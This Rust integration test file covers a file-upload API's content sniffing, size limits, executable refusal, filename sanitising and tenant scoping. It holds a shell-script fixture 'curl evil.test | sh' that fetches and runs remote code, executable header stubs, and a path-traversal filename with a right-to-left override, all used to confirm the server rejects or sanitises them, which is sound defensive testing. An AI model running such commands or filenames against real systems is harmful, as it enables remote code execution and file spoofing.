//! Client files: upload with content sniffing, list, download with type and disposition, delete; the
//! upload limit (413, nothing stored), refused executables, validation, tenancy and Member scoping.

use audienceos_shared::client_work::ClientFile;
use reqwest::multipart::{Form, Part};
use serde_json::{json, Value};

use crate::fixtures::{audit_actions, field_errors, member_scope};
use crate::helpers::{spawn_app, spawn_app_with, Backend, Browser, TestApp};
use crate::notes::new_client;
use crate::on_both;

on_both!(
    png_and_pdf_are_uploaded_listed_downloaded_and_deleted,
    an_upload_over_the_limit_is_413_and_nothing_is_stored,
    disguised_executables_are_refused,
    uploads_are_validated,
    names_are_sanitised_and_encoded_for_download,
    another_agencys_client_and_file_ids_are_404,
    members_read_files_of_granted_clients_only_and_cannot_write,
    a_deleted_clients_objects_can_be_removed
);

/// A 1x1 PNG.
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82";

fn pdf() -> Vec<u8> {
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".to_vec()
}

/// POST a multipart body with one `file` part.
async fn upload(b: &Browser, client_id: uuid::Uuid, name: &str, bytes: Vec<u8>, claimed: &str) -> reqwest::Response {
    let part = Part::bytes(bytes)
        .file_name(name.to_string())
        .mime_str(claimed)
        .unwrap();
    upload_form(b, client_id, Form::new().part("file", part)).await
}

async fn upload_form(b: &Browser, client_id: uuid::Uuid, form: Form) -> reqwest::Response {
    b.with_csrf(
        b.client
            .post(b.url(&format!("/api/v1/clients/{client_id}/files")))
            .multipart(form),
    )
    .send()
    .await
    .unwrap()
}

/// Regular files under the object store directory.
fn stored_objects(app: &TestApp) -> Vec<std::path::PathBuf> {
    fn walk(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
        if let Ok(entries) = std::fs::read_dir(dir) {
            for e in entries.flatten() {
                let p = e.path();
                if p.is_dir() {
                    walk(&p, out);
                } else {
                    out.push(p);
                }
            }
        }
    }
    let mut out = Vec::new();
    walk(&app.data_dir.path().join("files"), &mut out);
    out
}

async fn png_and_pdf_are_uploaded_listed_downloaded_and_deleted(backend: Backend) {
    let app = spawn_app(backend).await;
    let (_, me) = app.signup().await;
    let client = new_client(&app, "Acme", None).await;

    // the browser's claimed type is ignored: the content decides
    let res = upload(&app, client.id, "logo.png", PNG.to_vec(), "application/octet-stream").await;
    assert_eq!(res.status(), 201);
    let png: ClientFile = res.json().await.unwrap();
    assert_eq!(png.content_type, "image/png");
    assert_eq!(png.name, "logo.png");
    assert_eq!(png.size_bytes, PNG.len() as i64);
    assert_eq!(png.uploaded_by.as_ref().map(|u| u.id), Some(me.user.id));

    let res = upload(&app, client.id, "Audit report.pdf", pdf(), "text/plain").await;
    assert_eq!(res.status(), 201);
    let doc: ClientFile = res.json().await.unwrap();
    assert_eq!(doc.content_type, "application/pdf");
    assert_eq!(stored_objects(&app).len(), 2);

    let base = format!("/api/v1/clients/{}/files", client.id);
    let list: Vec<ClientFile> = app.get_json(&base).await;
    assert_eq!(
        list.iter().map(|f| f.id).collect::<Vec<_>>(),
        [doc.id, png.id],
        "newest first"
    );

    let res = app.get(&format!("{base}/{}", png.id)).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "image/png");
    assert_eq!(
        res.headers()["content-disposition"],
        "attachment; filename=\"logo.png\"; filename*=UTF-8''logo.png"
    );
    assert_eq!(res.headers()["x-content-type-options"], "nosniff");
    assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);

    let res = app.get(&format!("{base}/{}", doc.id)).await;
    assert_eq!(res.headers()["content-type"], "application/pdf");
    assert_eq!(
        res.headers()["content-disposition"],
        "attachment; filename=\"Audit report.pdf\"; filename*=UTF-8''Audit%20report.pdf"
    );
    assert_eq!(res.bytes().await.unwrap().as_ref(), pdf().as_slice());

    assert_eq!(app.delete(&format!("{base}/{}", png.id)).await.status(), 204);
    assert_eq!(app.get(&format!("{base}/{}", png.id)).await.status(), 404);
    assert_eq!(app.delete(&format!("{base}/{}", png.id)).await.status(), 404);
    let list: Vec<ClientFile> = app.get_json(&base).await;
    assert_eq!(list.len(), 1);
    assert_eq!(stored_objects(&app).len(), 1, "the object went with the row");

    let actions = audit_actions(&app, "?limit=50").await;
    assert!(
        actions.contains(&"file.uploaded".into()) && actions.contains(&"file.deleted".into()),
        "{actions:?}"
    );
}

async fn an_upload_over_the_limit_is_413_and_nothing_is_stored(backend: Backend) {
    let app = spawn_app_with(backend, &[("AOS_UPLOAD_LIMIT_BYTES", "4096")]).await;
    let (_, me) = app.signup().await;
    let client = new_client(&app, "Acme", None).await;

    let mut big = PNG.to_vec();
    big.resize(4097, 0);
    let res = upload(&app, client.id, "big.png", big, "image/png").await;
    assert_eq!(res.status(), 413);
    let problem: Value = res.json().await.unwrap();
    assert_eq!(problem["code"], "payload_too_large");
    assert_eq!(
        app.store.count_files(me.agency.id, client.id).await.unwrap(),
        0,
        "no row"
    );
    assert!(stored_objects(&app).is_empty(), "no object: {:?}", stored_objects(&app));

    // much larger than the limit: still a clean 413
    let res = upload(
        &app,
        client.id,
        "huge.bin",
        vec![7u8; 3 * 1024 * 1024],
        "application/octet-stream",
    )
    .await;
    assert_eq!(res.status(), 413);
    assert_eq!(app.store.count_files(me.agency.id, client.id).await.unwrap(), 0);
    assert!(stored_objects(&app).is_empty());

    // exactly the limit is fine
    let mut fits = PNG.to_vec();
    fits.resize(4096, 0);
    let res = upload(&app, client.id, "fits.png", fits, "image/png").await;
    assert_eq!(res.status(), 201);
    assert_eq!(app.store.count_files(me.agency.id, client.id).await.unwrap(), 1);
    assert_eq!(stored_objects(&app).len(), 1);
}

async fn disguised_executables_are_refused(backend: Backend) {
    let app = spawn_app(backend).await;
    let (_, me) = app.signup().await;
    let client = new_client(&app, "Acme", None).await;
    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
    exe.resize(512, 0);
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.resize(512, 0);
    for (name, bytes) in [
        ("invoice.pdf", exe),
        ("photo.png", elf),
        ("notes.txt", b"#!/bin/sh\ncurl evil.test | sh\n".to_vec()),
    ] {
        let res = upload(&app, client.id, name, bytes, "application/pdf").await;
        assert_eq!(res.status(), 415, "{name}");
        let problem: Value = res.json().await.unwrap();
        assert_eq!(problem["code"], "unsupported_file_type", "{name}");
    }
    assert_eq!(app.store.count_files(me.agency.id, client.id).await.unwrap(), 0);
    assert!(stored_objects(&app).is_empty());

    // plain text and unknown binary data are fine
    let res = upload(
        &app,
        client.id,
        "brief.csv",
        b"name,spend\nAcme,1250\n".to_vec(),
        "text/csv",
    )
    .await;
    let f: ClientFile = res.json().await.unwrap();
    assert_eq!(f.content_type, "text/plain; charset=utf-8");
    let res = upload(&app, client.id, "blob.dat", vec![0, 159, 146, 150, 1, 2], "text/plain").await;
    let f: ClientFile = res.json().await.unwrap();
    assert_eq!(f.content_type, "application/octet-stream");
}

async fn uploads_are_validated(backend: Backend) {
    let app = spawn_app(backend).await;
    app.signup().await;
    let client = new_client(&app, "Acme", None).await;

    let wrong_part = Form::new().part("document", Part::bytes(PNG.to_vec()).file_name("a.png"));
    let (status, fields) = field_errors(upload_form(&app, client.id, wrong_part).await).await;
    assert_eq!((status, fields), (422, vec!["file".to_string()]), "no `file` part");

    let (status, fields) = field_errors(upload(&app, client.id, "empty.txt", Vec::new(), "text/plain").await).await;
    assert_eq!((status, fields), (422, vec!["file".to_string()]), "empty file");

    let json_body = app
        .post(&format!("/api/v1/clients/{}/files", client.id), &json!({ "file": "x" }))
        .await;
    let (status, fields) = field_errors(json_body).await;
    assert_eq!((status, fields), (422, vec!["file".to_string()]), "not multipart");
    let list: Vec<ClientFile> = app.get_json(&format!("/api/v1/clients/{}/files", client.id)).await;
    assert!(list.is_empty());
}

async fn names_are_sanitised_and_encoded_for_download(backend: Backend) {
    let app = spawn_app(backend).await;
    app.signup().await;
    let client = new_client(&app, "Acme", None).await;
    let res = upload(
        &app,
        client.id,
        "../../etc/Résumé \u{202E}fdp.png",
        PNG.to_vec(),
        "image/png",
    )
    .await;
    assert_eq!(res.status(), 201);
    let f: ClientFile = res.json().await.unwrap();
    assert_eq!(f.name, "Résumé fdp.png");
    let res = app.get(&format!("/api/v1/clients/{}/files/{}", client.id, f.id)).await;
    assert_eq!(
        res.headers()["content-disposition"],
        "attachment; filename=\"R_sum_ fdp.png\"; filename*=UTF-8''R%C3%A9sum%C3%A9%20fdp.png"
    );

    let long = format!("{}.png", "n".repeat(400));
    let f: ClientFile = upload(&app, client.id, &long, PNG.to_vec(), "image/png")
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(f.name.chars().count(), 200);
    assert!(f.name.ends_with(".png"));
}

async fn another_agencys_client_and_file_ids_are_404(backend: Backend) {
    let app = spawn_app(backend).await;
    app.signup().await;
    let client = new_client(&app, "Acme", None).await;
    let f: ClientFile = upload(&app, client.id, "logo.png", PNG.to_vec(), "image/png")
        .await
        .json()
        .await
        .unwrap();
    let base = format!("/api/v1/clients/{}/files", client.id);
    let path = format!("{base}/{}", f.id);

    let stranger = app.new_browser();
    stranger.signup().await;
    let theirs = new_client(&stranger, "Theirs", None).await;
    let crossed = format!("/api/v1/clients/{}/files/{}", theirs.id, f.id);
    assert_eq!(stranger.get(&base).await.status(), 404);
    assert_eq!(
        upload(&stranger, client.id, "x.png", PNG.to_vec(), "image/png")
            .await
            .status(),
        404
    );
    for p in [&path, &crossed] {
        assert_eq!(stranger.get(p).await.status(), 404, "{p}");
        assert_eq!(stranger.delete(p).await.status(), 404, "{p}");
    }
    let res = app.get(&path).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);
    assert_eq!(stored_objects(&app).len(), 1);
}

async fn members_read_files_of_granted_clients_only_and_cannot_write(backend: Backend) {
    let (app, member, _, granted, hidden) = member_scope(backend).await;
    let f: ClientFile = upload(&app, granted.id, "logo.png", PNG.to_vec(), "image/png")
        .await
        .json()
        .await
        .unwrap();
    let h: ClientFile = upload(&app, hidden.id, "secret.png", PNG.to_vec(), "image/png")
        .await
        .json()
        .await
        .unwrap();

    let list: Vec<ClientFile> = member.get_json(&format!("/api/v1/clients/{}/files", granted.id)).await;
    assert_eq!(list.len(), 1);
    let res = member
        .get(&format!("/api/v1/clients/{}/files/{}", granted.id, f.id))
        .await;
    assert_eq!(res.status(), 200);
    for hidden_path in [
        format!("/api/v1/clients/{}/files", hidden.id),
        format!("/api/v1/clients/{}/files/{}", hidden.id, h.id),
    ] {
        assert_eq!(member.get(&hidden_path).await.status(), 404, "{hidden_path}");
    }
    assert_eq!(
        upload(&member, granted.id, "x.png", PNG.to_vec(), "image/png")
            .await
            .status(),
        403
    );
    assert_eq!(
        member
            .delete(&format!("/api/v1/clients/{}/files/{}", granted.id, f.id))
            .await
            .status(),
        403
    );
    assert_eq!(stored_objects(&app).len(), 2);
}

async fn a_deleted_clients_objects_can_be_removed(backend: Backend) {
    let app = spawn_app(backend).await;
    let (_, me) = app.signup().await;
    let client = new_client(&app, "Acme", None).await;
    let other = new_client(&app, "Other", None).await;
    for name in ["a.png", "b.png"] {
        upload(&app, client.id, name, PNG.to_vec(), "image/png").await;
    }
    upload(&app, other.id, "c.png", PNG.to_vec(), "image/png").await;
    assert_eq!(stored_objects(&app).len(), 3);
    let n = audienceos_api::services::files::delete_client_objects(&app.state, me.agency.id, client.id).await;
    assert_eq!(n, 2);
    assert_eq!(stored_objects(&app).len(), 1, "only the other client's file is left");
    // again: nothing left to delete, no error
    assert_eq!(
        audienceos_api::services::files::delete_client_objects(&app.state, me.agency.id, client.id).await,
        0
    );
}
